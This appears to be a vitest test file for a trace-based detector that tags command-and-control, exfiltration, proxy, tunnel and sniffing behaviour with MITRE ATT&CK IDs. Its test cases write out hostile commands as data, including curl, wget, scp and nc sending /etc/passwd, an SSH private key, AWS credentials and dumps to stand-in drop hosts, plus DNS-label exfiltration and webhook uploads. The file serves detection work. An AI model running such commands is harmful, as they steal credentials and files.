import { describe, expect, it } from 'vitest';
import { describeRules } from './rule-table';
import { judgeTrace } from '../judge';
import { HOME, network, SAMPLE, Trace } from './trace';

/**
 * Command and control and exfiltration. Network records come from the guard's log joined with the
 * fake network's (the fake resolver hands every name a 127.10.x.y address, so a named host is
 * remote whatever its address), commands from the trace.
 */

const C2 = { address: '127.10.0.5', name: 'c2.example.test' };
const curl = (...args: string[]) => new Trace().run(701, '/usr/bin/curl', ['curl', ...args]);

describe('web protocols and uploads', () => {
  it('a health check with curl stays at most low: HTTP is T1071.001 context, curl a downloader', () => {
    const { behavior } = judgeTrace(
      curl('-fsS', 'http://service.example.test/health').text(),
      {},
      network([
        { address: '127.10.0.3', name: 'service.example.test', port: 80, http: { method: 'GET', path: '/health' } },
      ]),
    );
    const raised = Object.values(behavior).flat();
    expect(raised.map((i) => i.id).sort()).toEqual(['execution.downloader', 'network.http']);
    expect(raised.every((i) => i.severity === 'low')).toBe(true);
    expect(behavior.network[0]?.attack).toEqual(['T1071.001']);
  });

  it('an HTTP request body sent out is exfiltration over the C2 channel (T1041); a GET is not', () => {
    const post = network([{ ...C2, port: 80, http: { method: 'POST', path: '/upload', body: 'user=a&keys=...' } }]);
    expect(new Trace().ids(post).get('network.upload')).toEqual(['T1041']);
    const get = network([{ ...C2, port: 80, http: { method: 'GET', path: '/beacon' } }]);
    expect(new Trace().ids(get).has('network.upload')).toBe(false);
  });

  it('TLS alone is low T1573.002', () => {
    const { behavior } = judgeTrace(new Trace().text(), {}, network([{ ...C2, port: 443, tls: 'c2.example.test' }]));
    expect(behavior.network.map((i) => [i.id, i.severity, i.attack])).toEqual([['network.tls', 'low', ['T1573.002']]]);
  });
});

describe('exfiltration by command', () => {
  it.each([
    ['curl -T to https', ['-T', `${HOME}/loot.tgz`, 'https://drop.example.test/up']],
    ['curl -F file=@ to https', ['-F', 'f=@/etc/passwd', 'https://drop.example.test/up']],
    ['curl --data-binary @file to https', ['--data-binary', '@notes.txt', 'https://drop.example.test/up']],
  ])('%s is T1048.002', (_, args) => {
    expect(
      curl(...args)
        .ids()
        .get('network.exfil-https'),
    ).toEqual(['T1048.002']);
  });

  it('scp of a local file to a remote host is T1048.002; fetching one is not', () => {
    const scp = (...args: string[]) => new Trace().run(701, '/usr/bin/scp', ['scp', ...args]).ids();
    expect(scp(`${HOME}/.ssh/id_rsa`, 'u@drop.example.test:/tmp/').get('network.exfil-https')).toEqual(['T1048.002']);
    expect(scp('u@files.example.test:/srv/a.tgz', '.').has('network.exfil-https')).toBe(false);
  });

  it('curl --data @file and wget --post-file to plain http are T1048.003', () => {
    expect(curl('--data', '@dump.sql', 'http://drop.example.test/up').ids().get('network.exfil-http')).toEqual([
      'T1048.003',
    ]);
    const wget = new Trace().run(701, '/usr/bin/wget', [
      'wget',
      '--post-file=/etc/passwd',
      'http://drop.example.test/up',
    ]);
    expect(wget.ids().get('network.exfil-http')).toEqual(['T1048.003']);
  });

  it('nc with a file redirected into it is T1048.003; nc listening, or with no file, is not', () => {
    const nc = (argv: string[], input?: string) => {
      const t = new Trace('/bin/sh').fork(SAMPLE, 701);
      if (input) t.open(701, input);
      return t.exec(701, '/bin/nc', argv).ids();
    };
    expect(nc(['nc', 'drop.example.test', '4444'], `${HOME}/.aws/credentials`).get('network.exfil-raw')).toEqual([
      'T1048.003',
    ]);
    expect(nc(['nc', '-lp', '4444'], `${HOME}/reply.txt`).has('network.exfil-raw')).toBe(false);
    expect(nc(['nc', '-z', 'db.example.test', '5432']).has('network.exfil-raw')).toBe(false);
  });

  it.each([
    ['a download', ['-o', 'pkg.tgz', 'https://pkg.example.test/pkg.tgz']],
    ['a form field with no file', ['-d', 'name=ci', 'http://api.example.test/v1/run']],
    ['a method named with -X', ['-X', 'POST', 'https://api.example.test/v1/ping']],
  ])('%s is not exfiltration', (_, args) => {
    const ids = curl(...args).ids();
    expect(ids.has('network.exfil-https')).toBe(false);
    expect(ids.has('network.exfil-http')).toBe(false);
    expect(ids.has('network.proxy')).toBe(false);
  });
});

describe('destinations: ports, raw addresses, scans, DNS', () => {
  it('an uncommon port on a named host is T1571 although the fake resolver gave it a loopback address', () => {
    expect(new Trace().ids(network([{ ...C2, port: 4443 }])).get('network.unusual-port')).toEqual(['T1571']);
  });

  it('an uncommon port on a raw remote address is T1571 and T1095', () => {
    const ids = new Trace().ids(network([{ address: '203.0.113.9', port: 31337 }]));
    expect(ids.get('network.unusual-port')).toEqual(['T1571']);
    expect(ids.get('network.raw-ip')).toEqual(['T1095']);
  });

  it.each([
    ['HTTPS on a named host', { ...C2, port: 443 }],
    ['a database port', { address: '127.10.0.8', name: 'db.example.test', port: 5432 }],
    ['a local service without a name', { address: '127.0.0.1', port: 4443 }],
  ])('%s is not an unusual port', (_, contact) => {
    expect(new Trace().ids(network([contact])).has('network.unusual-port')).toBe(false);
  });

  it('a named host is not a hard-coded address', () => {
    expect(new Trace().ids(network([{ ...C2, port: 80 }])).has('network.raw-ip')).toBe(false);
  });

  it('twenty distinct destinations are a scan (T1046); five are not', () => {
    const contacts = (n: number) => Array.from({ length: n }, (_, i) => ({ address: '203.0.113.20', port: 1000 + i }));
    expect(new Trace().ids(network(contacts(20))).get('network.scan')).toEqual(['T1046']);
    expect(new Trace().ids(network(contacts(5))).has('network.scan')).toBe(false);
  });

  it('TXT queries are DNS as a command channel (T1071.004); long labels carry data out (T1048.003)', () => {
    expect(
      new Trace().ids(network([], [{ name: 'cmd.c2.example.test', qtype: 'TXT' }])).get('network.dns-tunnel'),
    ).toEqual(['T1071.004']);
    const label = 'a'.repeat(48);
    const long = new Trace().ids(network([], [{ name: `${label}.c2.example.test` }]));
    expect(long.get('network.dns-exfil')).toEqual(['T1048.003']);
    expect(long.has('network.dns-tunnel')).toBe(false);
    const plain = new Trace().ids(
      network([], [{ name: 'www.example.test' }, { name: `${'b'.repeat(39)}.example.test` }]),
    );
    expect(plain.has('network.dns-tunnel') || plain.has('network.dns-exfil')).toBe(false);
  });
});

describe('proxies and tunnels', () => {
  it.each([
    ['curl -x', ['-x', 'http://203.0.113.4:3128', 'http://c2.example.test/']],
    ['curl --socks5-hostname', ['--socks5-hostname', '203.0.113.4:1080', 'http://c2.example.test/']],
    ['curl --proxy=', ['--proxy=socks5h://203.0.113.4:1080', 'http://c2.example.test/']],
  ])('%s to a remote proxy is an external proxy (T1090.002)', (_, args) => {
    const ids = curl(...args).ids();
    expect(ids.get('network.proxy')).toEqual(['T1090.002']);
    expect(ids.has('network.internal-proxy')).toBe(false);
  });

  it.each([
    ['on this host', ['-x', 'http://127.0.0.1:8080', 'http://c2.example.test/']],
    ['on the local network', ['--proxy=socks5h://user@10.1.2.3:1080', 'http://c2.example.test/']],
    ['named localhost, inline', ['-xlocalhost:3128', 'http://c2.example.test/']],
  ])('a proxy %s is an internal proxy (T1090.001)', (_, args) => {
    const ids = curl(...args).ids();
    expect(ids.get('network.internal-proxy')).toEqual(['T1090.001']);
    expect(ids.has('network.proxy')).toBe(false);
  });

  it('a proxy in an exec environment is low T1090; NO_PROXY is nothing', () => {
    const run = (env: string) =>
      judgeTrace(
        new Trace().run(701, '/usr/bin/curl', ['curl', 'http://c2.example.test/'], ['PATH=/usr/bin', env]).text(),
      );
    expect(run('ALL_PROXY=socks5://203.0.113.4:1080').behavior.network).toEqual([
      expect.objectContaining({ id: 'network.proxy-environment', severity: 'low', attack: ['T1090'] }),
    ]);
    expect(run('NO_PROXY=localhost').behavior.network).toEqual([]);
  });

  it('Tor and proxy chains are multi-hop proxies (T1090.003)', () => {
    expect(
      new Trace()
        .run(701, '/usr/bin/torsocks', ['torsocks', 'curl', 'http://x.example.test'])
        .ids()
        .get('network.multi-hop-proxy'),
    ).toEqual(['T1090.003']);
    expect(new Trace().ids(network([], [{ name: 'expyuzz4wqqyqhjn.onion' }])).get('network.multi-hop-proxy')).toEqual([
      'T1090.003',
    ]);
    expect(
      new Trace()
        .run(701, '/usr/bin/python3', ['python3', '-c', 'import tornado'])
        .ids()
        .has('network.multi-hop-proxy'),
    ).toBe(false);
  });

  it('ssh port forwarding is protocol tunnelling (T1572); running a remote command is not', () => {
    const ssh = (...args: string[]) => new Trace().run(701, '/usr/bin/ssh', ['ssh', ...args]).ids();
    expect(ssh('-N', '-L', '8080:intranet.example.test:80', 'jump.example.test').get('network.tunnel')).toEqual([
      'T1572',
    ]);
    expect(ssh('-D', '1080', 'jump.example.test').get('network.tunnel')).toEqual(['T1572']);
    expect(ssh('build.example.test', 'uptime').has('network.tunnel')).toBe(false);
  });
});

describe('a real connect line', () => {
  it("the trace's own connect to a raw address is read with its port", () => {
    const ids = new Trace().connect(SAMPLE, '203.0.113.9', 31337).ids();
    expect(ids.get('network.unusual-port')).toEqual(['T1571']);
  });
});

describeRules([
  {
    id: 'network.sniffing',
    attack: ['T1040'],
    positive: [
      ['captures with tcpdump', (s) => s.run(['tcpdump', '-i', 'any', '-w', '/tmp/c.pcap'])],
      ['captures with tshark', (s) => s.run(['tshark', '-i', 'eth0', '-c', '10'])],
      ['puts an interface in promiscuous mode', (s) => s.run(['ip', 'link', 'set', 'eth0', 'promisc', 'on'])],
    ],
    benign: [
      ['lists capture interfaces', (s) => s.run(['tcpdump', '-D'])],
      ['reads a saved capture', (s) => s.run(['tcpdump', '-r', 'saved.pcap'])],
      ['shows its addresses', (s) => s.run(['ip', 'addr', 'show'])],
    ],
  },
]);

describeRules([
  {
    id: 'network.exfil-webhook',
    attack: ['T1567.004'],
    positive: [
      [
        'posts a file to a Slack webhook',
        (s) =>
          s.run(['curl', '-s', '-X', 'POST', '--data', '{"text":"x"}', 'https://hooks.slack.com/services/T0/B0/x']),
      ],
      [
        'posts to a Discord webhook with -F',
        (s) => s.run(['curl', '-F', 'file=@loot.txt', 'https://discord.com/api/webhooks/1/abc']),
      ],
    ],
    benign: [
      ['reads a Slack API page', (s) => s.run(['curl', '-s', 'https://hooks.slack.com/'])],
      ['posts to an ordinary API', (s) => s.run(['curl', '-d', '{}', 'https://api.example.test/v1/items'])],
    ],
  },
  {
    id: 'network.post-https',
    attack: ['T1048.002'],
    positive: [
      ['posts inline data with wget', (s) => s.run(['wget', '--post-data=msg=x', 'https://example.test/'])],
      ['posts inline data with curl -d', (s) => s.run(['curl', '-d', 'a=1', 'https://example.test/'])],
    ],
    benign: [
      ['gets a page', (s) => s.run(['curl', '-fsS', 'https://example.test/'])],
      [
        'posts over plain HTTP (seen in full by the fake network)',
        (s) => s.run(['curl', '-d', 'a=1', 'http://example.test/']),
      ],
    ],
  },
]);
